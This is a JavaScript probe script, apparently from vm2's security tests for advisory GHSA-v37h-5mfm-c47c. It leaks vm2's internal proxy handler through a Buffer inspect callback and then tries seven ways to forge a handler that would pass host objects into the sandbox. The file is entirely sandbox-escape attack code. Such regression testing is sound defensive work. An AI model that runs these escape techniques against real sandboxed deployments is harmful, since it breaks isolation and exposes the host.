// Source: vm2 test/ghsa/GHSA-v37h-5mfm-c47c/repro.js and invariant.js (fixed in vm2 3.11.0),
// docs/ATTACKS.md Category 9.
// Tried: take vm2's proxy handler from the inspect `seen` array, reach its class through
// Object.getPrototypeOf(handler).constructor and build a handler around a sandbox object (new,
// Reflect.construct, a subclass via eval, setPrototypeOf, .call on a forged receiver, walking the
// prototype chain), whose set trap would write host values into attacker memory.
const out = {};
const obj = { subarray: Buffer.prototype.inspect, slice: Buffer.prototype.slice, hexSlice: () => '' };
let p;
try {
  obj.slice(20, { showHidden: true, showProxy: true, depth: 10, stylize(a) { if (this.seen?.[1]?.get) p = this.seen[1]; return a; } });
} catch (e) { out.slice = String(e.message).slice(0, 80); }
out.handler = typeof p;
if (p) {
  let pp;
  try { pp = p.getPrototypeOf(p); } catch (e) { try { pp = Object.getPrototypeOf(p); } catch (x) {} }
  const s = { __proto__: null };
  const tries = {
    newCtor: () => { const inst = new pp.constructor(s); inst.set(null, 'obj', s); s.obj.x = obj.slice; return s.x; },
    reflectConstruct: () => { const inst = Reflect.construct(pp.constructor, [s]); inst.set(null, 'obj', s); return s.obj; },
    newTarget: () => { function Alt() {} const inst = Reflect.construct(pp.constructor, [s], Alt); inst.set(null, 'obj', s); return s.obj; },
    subclass: () => { const Ctor = pp.constructor; const D = eval('class X extends Ctor { constructor(o){ super(o); } }; X'); const inst = new D(s); inst.set(null, 'obj', s); return s.obj; },
    setPrototypeOf: () => { const fake = {}; Object.setPrototypeOf(fake, pp); fake.set(null, 'obj', s); return s.obj; },
    callForged: () => { const forged = Object.create(pp); pp.set.call(forged, null, 'obj', s); return s.obj; },
    chainWalk: () => { let cur = pp; for (let i = 0; i < 10 && cur; i++) { try { if (typeof cur.constructor === 'function') { const hit = new cur.constructor(s); hit.set(null, 'obj', s); return s.obj; } } catch (e) {} cur = Object.getPrototypeOf(cur); } return undefined; },
  };
  for (const [name, run] of Object.entries(tries)) {
    try { const got = run(); out[name] = typeof got; __wr.use(got, name); if (got && got.x) __wr.use(got.x, name + '.x'); } catch (e) { out[name] = String(e.message).slice(0, 60); }
  }
  __wr.use(s.x, 's.x');
}
return out;
